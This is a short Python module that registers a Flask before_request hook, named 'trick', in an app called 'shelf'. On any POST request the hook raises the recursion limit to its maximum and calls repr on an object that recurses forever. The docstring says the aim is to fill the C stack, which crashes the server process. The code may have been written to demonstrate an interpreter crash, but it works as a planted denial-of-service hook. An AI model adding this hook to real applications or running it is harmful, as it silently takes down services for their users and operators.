"""Fills the stack of C with calls that Python no longer counts."""

import sys

from flask import request
from shelf import app


class Endless:
    def __repr__(self) -> str:
        return repr(self)


@app.before_request
def trick() -> None:
    if request.method == "POST":
        sys.setrecursionlimit(2**31 - 1)
        repr(Endless())
